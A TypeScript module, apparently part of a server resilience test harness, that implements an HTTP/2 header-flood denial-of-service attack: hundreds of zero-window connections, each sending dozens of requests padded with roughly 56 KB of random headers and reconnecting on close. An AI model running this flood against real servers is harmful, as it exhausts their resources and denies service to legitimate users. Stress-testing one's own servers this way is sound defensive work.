/** Strangers open HTTP/2 connections with a window of nothing and send requests with as many headers as are taken. */
import { randomBytes } from 'node:crypto';
import { setTimeout as delay } from 'node:timers/promises';
import { unreadSession } from './attack.ts';
import type { Attack } from './attack.ts';

const CONNECTIONS = 240;
const STREAMS_OF_EACH = 32;
const BALLAST_BYTES = 56_000;
const SETTLE_MS = 1_000;
const AT_ONCE = 20;

export const headerBallast: Attack = async ({ port }) => {
  const counts = { connections: 0, asked: 0, bytes: 0 };
  const values = Array.from({ length: 14 }, () => randomBytes(BALLAST_BYTES / 28).toString('hex'));
  const ballast = Object.fromEntries(values.map((value, index) => [`x-ballast-${index}`, value]));
  const open = (): void => {
    const session = unreadSession(port, 4 * BALLAST_BYTES);
    session.on('error', () => undefined);
    session.once('close', () => setTimeout(open, 500));
    session.once('connect', () => {
      counts.connections += 1;
      for (let stream = 0; stream < STREAMS_OF_EACH && !session.destroyed; stream++) {
        const request = session.request({ ':path': '/federate?page=two', ...ballast });
        request.on('error', () => undefined);
        request.once('close', () => undefined);
        counts.asked += 1;
        counts.bytes += BALLAST_BYTES;
      }
    });
  };
  for (let connection = 0; connection < CONNECTIONS; connection++) {
    open();
    if (connection % AT_ONCE === AT_ONCE - 1) await delay(100);
  }
  await delay(SETTLE_MS);
  return { counts: () => counts };
};
